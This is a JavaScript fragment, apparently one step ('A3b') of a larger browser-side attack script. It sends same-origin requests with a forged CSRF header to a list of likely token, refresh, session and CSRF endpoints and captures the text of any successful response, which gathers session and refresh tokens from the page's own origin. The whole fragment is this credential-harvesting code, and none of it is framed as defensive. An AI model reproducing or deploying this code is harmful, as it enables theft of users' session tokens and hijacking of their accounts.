// A3b: every endpoint that might give a token, asked as the page itself would ask.
const asked = [
  ["POST", "/api/refresh"], ["POST", "/auth/refresh"], ["POST", "/api/token"], ["POST", "/auth/token"], ["POST", "/token"], ["POST", "/refresh"],
  ["GET", "/api/token"], ["GET", "/auth/me"], ["GET", "/auth/csrf"], ["GET", "/auth/sessions"], ["GET", "/api/session"], ["GET", "/auth/refresh"],
];
for (const [method, path] of asked) {
  await attempt("answer", async () => {
    const answer = await home(path, { method, credentials: "same-origin", headers: { "content-type": "application/json", "x-csrf": "1", accept: "application/json" }, body: method === "POST" ? "{}" : undefined });
    return answer.ok ? `${path} ${await answer.text()}` : null;
  });
}
